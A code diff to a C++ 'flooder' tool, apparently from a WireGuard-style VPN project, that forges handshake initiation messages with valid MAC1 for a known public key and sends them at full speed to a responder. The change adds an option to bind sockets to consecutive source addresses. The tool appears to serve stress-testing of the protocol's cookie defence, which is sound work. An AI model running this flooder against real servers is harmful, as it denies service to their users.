@@ -1,4 +1,5 @@
-// Forged initiations at full speed: flooder PUBLIC_KEY ENDPOINT SECONDS.
+// Forged initiations at full speed:
+// flooder PUBLIC_KEY ENDPOINT SECONDS [FIRST_SOURCE].
 //
 // Whoever knows a responder's public key can make MAC1 right, so every message
 // costs it something: a MAC, a Curve25519 until it asks for cookies, then a
@@ -24,7 +25,7 @@ namespace {
 
 constexpr size_t kMessages = 4096;
 constexpr size_t kMessagesPerSend = 64;
-constexpr size_t kSockets = 16;  // source ports
+constexpr size_t kSockets = 16;  // source ports, and addresses
 
 std::vector<InitiationMessage> Forge(const PublicKey& victim) {
   SecureRandom random;
@@ -39,19 +40,31 @@ std::vector<InitiationMessage> Forge(const PublicKey& victim) {
 }
 
 int Main(int argc, char** argv) {
-  if (argc != 4) {
-    std::fprintf(stderr, "usage: flooder PUBLIC_KEY ENDPOINT SECONDS\n");
+  if (argc != 4 && argc != 5) {
+    std::fprintf(stderr, "usage: flooder PUBLIC_KEY ENDPOINT SECONDS [FIRST_SOURCE]\n");
     return 2;
   }
   const std::optional<PublicKey> victim = PublicKey::FromBase64(argv[1]);
   const std::optional<Endpoint> endpoint = Endpoint::Parse(argv[2]);
-  if (!victim || !endpoint) return 2;
+  const std::optional<IpAddress> first_source =
+      argc == 5 ? IpAddress::Parse(argv[4]) : std::optional<IpAddress>(IpAddress::V4(0));
+  if (!victim || !endpoint || !first_source || !first_source->is_v4()) return 2;
   std::vector<InitiationMessage> messages = Forge(*victim);
   sockaddr_storage address;
   const socklen_t address_bytes = endpoint->ToSockaddr(address);
   std::array<FileDescriptor, kSockets> sockets;
-  for (FileDescriptor& fd : sockets) {
+  for (uint32_t i = 0; i < kSockets; ++i) {
+    FileDescriptor& fd = sockets[i];
     fd = FileDescriptor(socket(address.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0));
+    if (argc == 5) {
+      const Endpoint source{IpAddress::V4(first_source->v4() + i), 0};
+      sockaddr_storage own;
+      const socklen_t own_bytes = source.ToSockaddr(own);
+      if (bind(fd.get(), reinterpret_cast<const sockaddr*>(&own), own_bytes) != 0) {
+        std::perror("bind");
+        return 1;
+      }
+    }
     if (connect(fd.get(), reinterpret_cast<const sockaddr*>(&address), address_bytes) != 0) {
       std::perror("connect");
       return 1;
